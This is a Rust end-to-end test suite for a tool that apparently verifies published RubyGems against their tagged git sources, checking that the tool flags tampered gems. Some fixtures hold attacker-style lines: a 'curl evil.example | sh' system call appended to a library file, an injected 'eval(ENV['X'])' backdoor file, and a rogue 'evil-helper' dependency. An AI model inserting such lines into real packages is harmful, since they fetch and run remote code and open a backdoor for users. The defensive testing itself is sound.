//! End to end for RubyGems: real git repositories with tags, gems built by the real `gem build`,
//! the RubyGems API served on 127.0.0.1, and the real `provero` binary. Every tampered variant
//! is repacked from the honest gem, the way an attacker with publish rights would do it.

mod gems_support;

use gems_support::*;
use serde_json::json;

const HONEST_GEMSPEC: &str = r#"require_relative "lib/honest/version"

Gem::Specification.new do |s|
  s.name = "honest"
  s.version = Honest::VERSION
  s.summary = "An honest gem"
  s.authors = ["Fixture"]
  s.license = "MIT"
  s.homepage = "https://honest.example.org/"
  s.metadata = { "source_code_uri" => "https://github.com/acme/honest" }
  s.files = `git ls-files -z`.split("\x0")
  s.require_paths = ["lib"]
  s.add_dependency "rack", ">= 2"
  s.add_development_dependency "rake"
end
"#;

/// The `honest` gem: gemspec listing files with `git ls-files`, a symlink, tag `v1.0.0`.
fn honest(w: &World) -> Vec<u8> {
    let dir = repo(
        &w.repos,
        "honest",
        &[
            ("honest.gemspec", HONEST_GEMSPEC),
            (
                "lib/honest.rb",
                "module Honest\n  def self.hi = \"hi\"\nend\n",
            ),
            (
                "lib/honest/version.rb",
                "module Honest\n  VERSION = \"1.0.0\"\nend\n",
            ),
            ("lib/honest/alias.rb", "->../honest.rb"),
            ("README.md", "# honest\n"),
        ],
        &["v1.0.0"],
    );
    gem_build(&dir, "honest.gemspec")
}

fn no_red_flags(run: &Run) {
    let red: Vec<_> = run.result()["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["severity"] == "red-flag")
        .collect();
    assert!(red.is_empty(), "{red:#?}");
}

#[test]
fn honest_gem_is_verified() {
    let w = World::new();
    let gem = honest(&w);
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "verified", "{:#}", run.json);
    assert_eq!(run.code, 0, "{}", run.stderr);
    let r = run.result();
    assert_eq!(r["source"]["tag"], "v1.0.0");
    assert_eq!(r["source"]["repository"], "https://github.com/acme/honest");
    assert_eq!(r["source"]["path_in_repo"], "");
    assert_eq!(r["artifact"]["sha256"], sha256(&gem));
    assert!(r["artifact"]["url"]
        .as_str()
        .unwrap()
        .ends_with("/gems/honest-1.0.0.gem"));
    // Every file, the symlink included, is identical to the tagged tree: nothing excused.
    assert_eq!(r["stats"]["files"], 5);
    assert_eq!(r["stats"]["identical"], 5);
    assert_eq!(r["excused"], json!([]));
    assert!(run.has("commit-from-tag", None));
    no_red_flags(&run);
}

#[test]
fn latest_and_every_version() {
    let w = World::new();
    let gem = honest(&w);
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest");
    assert_eq!(run.result()["package"]["version"], "1.0.0");
    assert_eq!(run.verdict(), "verified");
    let run = w.verify("gems:honest@*");
    assert_eq!(run.json["results"].as_array().unwrap().len(), 1);
    assert_eq!(run.verdict(), "verified");
}

#[test]
fn changed_line_is_content_differs() {
    let w = World::new();
    let gem = repack(&honest(&w), false, |m| {
        edit_data(m, |files| {
            let f = files.get_mut("lib/honest.rb").unwrap();
            f.extend_from_slice(b"system(\"curl evil.example | sh\")\n");
        })
    });
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "mismatch");
    assert_eq!(run.code, 1);
    assert!(
        run.has("content-differs", Some("lib/honest.rb")),
        "{:?}",
        run.findings()
    );
    assert!(run.message("content-differs").contains("1 line(s) added"));
    // The repacked checksums are consistent: only the content is wrong.
    assert!(!run.has("checksum-mismatch", None), "{:?}", run.findings());
}

#[test]
fn injected_file_is_not_in_source() {
    let w = World::new();
    let gem = repack(&honest(&w), false, |m| {
        edit_data(m, |files| {
            files.insert(
                "lib/honest/backdoor.rb".into(),
                b"eval(ENV['X'])\n".to_vec(),
            );
        })
    });
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "mismatch");
    assert_eq!(run.code, 1);
    assert_eq!(
        run.findings()
            .into_iter()
            .filter(|(_, p)| p.is_some())
            .collect::<Vec<_>>(),
        [(
            "file-not-in-source".to_string(),
            Some("lib/honest/backdoor.rb".to_string())
        )]
    );
}

#[test]
fn wrong_registry_sha_is_checksum_mismatch() {
    let w = World::new();
    let gem = honest(&w);
    w.publish("honest", "1.0.0", &gem, Some("ab".repeat(32)));
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "mismatch");
    assert_eq!(run.code, 1);
    assert!(run.has("checksum-mismatch", None));
    assert!(run.message("checksum-mismatch").contains(&"ab".repeat(32)));
    assert_eq!(run.result()["artifact"]["sha256"], sha256(&gem));
}

#[test]
fn tampered_inner_checksums_are_caught() {
    let w = World::new();
    // checksums.yaml.gz edited: the listed data.tar.gz digest no longer matches.
    let gem = repack(&honest(&w), true, |m| {
        let (_, sums) = m
            .iter_mut()
            .find(|(n, _)| n == "checksums.yaml.gz")
            .unwrap();
        let yaml = String::from_utf8(gunzip(sums)).unwrap();
        let data_line = yaml
            .lines()
            .find(|l| l.trim_start().starts_with("data.tar.gz:"))
            .unwrap()
            .to_string();
        *sums = gzip(
            yaml.replacen(
                &data_line,
                &format!("  data.tar.gz: '{}'", "0".repeat(64)),
                1,
            )
            .as_bytes(),
        );
    });
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "mismatch");
    assert!(
        run.has("checksum-mismatch", Some("data.tar.gz")),
        "{:?}",
        run.findings()
    );
    assert!(run
        .message("checksum-mismatch")
        .contains("SHA256 of the gem's inner data.tar.gz"));
    assert!(!run.has("content-differs", None));

    // data.tar.gz changed but the old checksums kept: both the checksum and the file show.
    let w = World::new();
    let gem = repack(&honest(&w), true, |m| {
        edit_data(m, |files| {
            files.insert("README.md".into(), b"# changed\n".to_vec());
        })
    });
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert!(
        run.has("checksum-mismatch", Some("data.tar.gz")),
        "{:?}",
        run.findings()
    );
    assert!(run.has("content-differs", Some("README.md")));
}

#[test]
fn dependency_added_to_metadata_is_manifest_mismatch() {
    let w = World::new();
    let gem = repack(&honest(&w), false, |m| {
        edit_metadata(m, |yaml| {
            yaml.replacen(
                "dependencies:\n",
                "dependencies:\n- !ruby/object:Gem::Dependency\n  name: evil-helper\n  requirement: !ruby/object:Gem::Requirement\n    requirements:\n    - - \">=\"\n      - !ruby/object:Gem::Version\n        version: '0'\n  type: :runtime\n  prerelease: false\n",
                1,
            )
        })
    });
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "mismatch");
    assert_eq!(run.code, 1);
    assert!(
        run.has("manifest-mismatch", Some("metadata.gz")),
        "{:?}",
        run.findings()
    );
    let msg = run.message("manifest-mismatch");
    assert!(
        msg.contains("evil-helper") && msg.contains("honest.gemspec"),
        "{msg}"
    );
    assert!(
        !msg.contains("`rack`"),
        "rack is declared in the gemspec: {msg}"
    );
    assert!(!run.has("content-differs", None) && !run.has("checksum-mismatch", None));
}

/// rack.gemspec lists minitest only with `add_development_dependency`: a gem whose metadata
/// makes it a runtime dependency installs it for every user, and is no longer what the tag
/// declares.
#[test]
fn development_dependency_made_runtime_is_manifest_mismatch() {
    let w = World::new();
    let gem = repack(&honest(&w), false, |m| {
        edit_metadata(m, |yaml| {
            let at = yaml.find("name: rake\n").expect("rake in the metadata");
            let (head, tail) = yaml.split_at(at);
            assert!(tail.contains("type: :development"), "{tail}");
            format!(
                "{head}{}",
                tail.replacen("type: :development", "type: :runtime", 1)
            )
        })
    });
    w.publish("honest", "1.0.0", &gem, None);
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "mismatch", "{:?}", run.findings());
    assert_eq!(run.code, 1);
    assert!(
        run.has("manifest-mismatch", Some("metadata.gz")),
        "{:?}",
        run.findings()
    );
    let msg = run.message("manifest-mismatch");
    assert!(
        msg.contains("`rake`")
            && msg.contains("honest.gemspec")
            && msg.contains("only as a development dependency"),
        "{msg}"
    );
    assert!(
        !msg.contains("`rack`"),
        "rack is a runtime dependency: {msg}"
    );
    assert!(!run.has("not-checked", Some("honest.gemspec")));
    assert!(!run.has("content-differs", None) && !run.has("checksum-mismatch", None));
}

#[test]
fn repository_from_the_api_when_metadata_names_none() {
    let w = World::new();
    let gem = repack(&honest(&w), false, |m| {
        edit_metadata(m, |yaml| {
            yaml.replace(
                "source_code_uri: https://github.com/acme/honest",
                "changelog_uri: https://honest.example.org/changes",
            )
        })
    });
    w.www.publish(
        "honest",
        &[Published {
            number: "1.0.0",
            platform: "ruby",
            gem: &gem,
            sha: None,
        }],
        json!({"source_code_uri": "https://github.com/acme/honest", "homepage_uri": "https://honest.example.org/"}),
    );
    let run = w.verify("gems:honest@1.0.0");
    assert_eq!(run.verdict(), "verified", "{:?}", run.findings());
    assert_eq!(
        run.result()["source"]["repository"],
        "https://github.com/acme/honest"
    );
}

#[test]
fn static_file_list_and_tag_hint() {
    let w = World::new();
    let gemspec = r#"Gem::Specification.new do |s|
  s.name = "static"
  s.version = "2.1.0"
  s.summary = "Static file list"
  s.authors = ["Fixture"]
  s.license = "MIT"
  s.homepage = "https://static.example.org/"
  s.metadata = { "source_code_uri" => "https://github.com/acme/static/tree/release_2_1_0" }
  s.files = ["lib/static.rb", "README.md", "static.gemspec"]
end
"#;
    let dir = repo(
        &w.repos,
        "static",
        &[
            ("static.gemspec", gemspec),
            ("lib/static.rb", "module Static; end\n"),
            ("README.md", "# static\n"),
            ("Rakefile", "task :default\n"),
        ],
        // No standard spelling: only the hint in source_code_uri finds it.
        &["release_2_1_0"],
    );
    let gem = gem_build(&dir, "static.gemspec");
    w.publish("static", "2.1.0", &gem, None);
    let run = w.verify("gems:static@2.1.0");
    assert_eq!(run.verdict(), "verified", "{:?}", run.findings());
    assert_eq!(run.result()["source"]["tag"], "release_2_1_0");
    assert_eq!(run.result()["stats"]["files"], 3);
}

#[test]
fn no_matching_tag_is_no_commit() {
    let w = World::new();
    let gemspec = HONEST_GEMSPEC
        .replace("honest", "notag")
        .replace("Honest", "Notag");
    let dir = repo(
        &w.repos,
        "notag",
        &[
            ("notag.gemspec", &gemspec),
            ("lib/notag.rb", "module Notag; end\n"),
            (
                "lib/notag/version.rb",
                "module Notag\n  VERSION = \"1.0.0\"\nend\n",
            ),
        ],
        // Near misses only. (A neighbouring release's tag, `v0.9.0`, would let the search
        // between neighbouring tags find this very commit: see tests/pypi_best_commit.rs.)
        &["v1.0.0.rc1", "v1.0.00"],
    );
    let gem = gem_build(&dir, "notag.gemspec");
    w.publish("notag", "1.0.0", &gem, None);
    let run = w.verify("gems:notag@1.0.0");
    assert_eq!(run.verdict(), "unverifiable", "{:?}", run.findings());
    assert!(run.has("no-commit", None));
    assert!(run.message("no-commit").contains("1.0.0"));
    assert_eq!(run.code, 0, "unverifiable alone is not an error");
}

#[test]
fn platform_gem_with_compiled_extension() {
    let w = World::new();
    let gemspec = r#"Gem::Specification.new do |s|
  s.name = "plat"
  s.version = "1.0.0"
  s.summary = "A gem with a native build"
  s.authors = ["Fixture"]
  s.license = "MIT"
  s.metadata = { "source_code_uri" => "https://github.com/acme/plat" }
  s.files = ["lib/plat.rb", "plat.gemspec", "ext/plat/extconf.rb"] + Dir["lib/plat/*.so"]
  s.platform = Gem::Platform.new("x86_64-linux") if File.exist?("lib/plat/plat.so")
end
"#;
    let dir = repo(
        &w.repos,
        "plat",
        &[
            ("plat.gemspec", gemspec),
            ("lib/plat.rb", "require \"plat/plat\"\n"),
            (
                "ext/plat/extconf.rb",
                "require \"mkmf\"\ncreate_makefile(\"plat/plat\")\n",
            ),
        ],
        &["v1.0.0"],
    );
    let source_gem = gem_build(&dir, "plat.gemspec");
    // What rake-compiler would leave behind: a compiled extension, never committed.
    write_files(&dir, &[("lib/plat/plat.so", "\x7fELF not really\n")]);
    let native_gem = gem_build(&dir, "plat.gemspec");
    w.www.publish(
        "plat",
        &[
            Published {
                number: "1.0.0",
                platform: "x86_64-linux",
                gem: &native_gem,
                sha: None,
            },
            Published {
                number: "1.0.0",
                platform: "ruby",
                gem: &source_gem,
                sha: None,
            },
        ],
        json!({}),
    );
    let run = w.verify("gems:plat@1.0.0-x86_64-linux");
    // A compiled extension has no source to compare with: not a red flag, not verified.
    assert_eq!(run.verdict(), "unverifiable", "{:?}", run.findings());
    let r = run.result();
    assert_eq!(r["package"]["version"], "1.0.0-x86_64-linux");
    assert_eq!(r["source"]["tag"], "v1.0.0");
    assert!(r["artifact"]["url"]
        .as_str()
        .unwrap()
        .ends_with("/gems/plat-1.0.0-x86_64-linux.gem"));
    assert!(
        run.has("not-comparable", Some("lib/plat/plat.so")),
        "{:?}",
        run.findings()
    );

    // Without a platform, the source gem: nothing to excuse.
    let run = w.verify("gems:plat@1.0.0");
    assert_eq!(run.verdict(), "verified", "{:?}", run.findings());
    assert_eq!(run.result()["artifact"]["sha256"], sha256(&source_gem));
    assert!(!run.has("not-comparable", None));

    // A compiled file in the source gem is content the source does not have.
    let w2 = World::new();
    std::fs::rename(&dir, w2.repos.join("plat")).unwrap();
    let sneaky = repack(&source_gem, false, |m| {
        edit_data(m, |files| {
            files.insert("lib/plat/plat.so".into(), b"\x7fELF\n".to_vec());
        })
    });
    w2.publish("plat", "1.0.0", &sneaky, None);
    let run = w2.verify("gems:plat@1.0.0");
    assert!(
        run.has("file-not-in-source", Some("lib/plat/plat.so")),
        "{:?}",
        run.findings()
    );
}

#[test]
fn unknown_gem_or_version_is_an_input_error() {
    let w = World::new();
    let gem = honest(&w);
    w.publish("honest", "1.0.0", &gem, None);
    for spec in ["gems:nosuchgem@1.0.0", "gems:honest@9.9.9"] {
        let run = w.verify(spec);
        assert_eq!(run.code, 2, "{spec}: {}", run.stderr);
        assert!(run.has("artifact-unavailable", None), "{spec}");
    }
}

#[test]
fn compact_index_mirror_without_the_v1_api() {
    let w = World::new();
    let gem = honest(&w);
    w.publish("honest", "1.0.0", &gem, None);
    // A gemstash-style mirror: the compact index Bundler reads, no /api/v1.
    std::fs::remove_dir_all(w.www.root.join("api")).unwrap();
    std::fs::create_dir_all(w.www.root.join("info")).unwrap();
    std::fs::write(
        w.www.root.join("info/honest"),
        format!(
            "---\n0.9.0 |checksum:{}\n1.0.0 rack:>= 2|checksum:{},ruby:>= 0\n",
            "1".repeat(64),
            sha256(&gem)
        ),
    )
    .unwrap();
    let run = w.verify("gems:honest");
    assert_eq!(run.result()["package"]["version"], "1.0.0");
    assert_eq!(run.verdict(), "verified", "{:?}", run.findings());
    assert_eq!(run.result()["artifact"]["expected_sha256"], sha256(&gem));
}

#[test]
fn monorepo_gem_with_dynamic_dependencies() {
    let w = World::new();
    let gemspec = r#"Gem::Specification.new do |s|
  s.name = "foo"
  s.version = "1.0.0"
  s.summary = "One gem of a monorepo"
  s.authors = ["Fixture"]
  s.license = "MIT"
  s.metadata = { "source_code_uri" => "https://github.com/acme/mono" }
  s.files = Dir["lib/**/*.rb"] + ["foo.gemspec"]
  %w[rack json].each { |dep| s.add_dependency dep }
end
"#;
    let dir = repo(
        &w.repos,
        "mono",
        &[
            ("foo/foo.gemspec", gemspec),
            ("foo/lib/foo.rb", "module Foo; OLD = 1; end\n"),
            (
                "bar/bar.gemspec",
                "Gem::Specification.new { |s| s.name = \"bar\" }\n",
            ),
        ],
        // A bare tag of the repository (another package's release), on an older commit.
        &["v1.0.0"],
    );
    write_files(&dir, &[("foo/lib/foo.rb", "module Foo; end\n")]);
    git(&dir, &["commit", "-qam", "foo 1.0.0"]);
    git(&dir, &["tag", "foo-v1.0.0"]);
    let gem = gem_build(&dir.join("foo"), "foo.gemspec");
    w.publish("foo", "1.0.0", &gem, None);
    let run = w.verify("gems:foo@1.0.0");
    assert_eq!(run.verdict(), "verified", "{:?}", run.findings());
    let r = run.result();
    assert_eq!(r["source"]["tag"], "foo-v1.0.0");
    assert_eq!(r["source"]["path_in_repo"], "foo");
    // The loop hides the names from a textual reading: said, not flagged.
    assert!(
        run.has("not-checked", Some("foo/foo.gemspec")),
        "{:?}",
        run.findings()
    );
    let note = run.message("not-checked");
    assert!(
        note.contains("`rack`") && note.contains("too dynamic"),
        "{note}"
    );
    assert!(!run.has("manifest-mismatch", None));
}
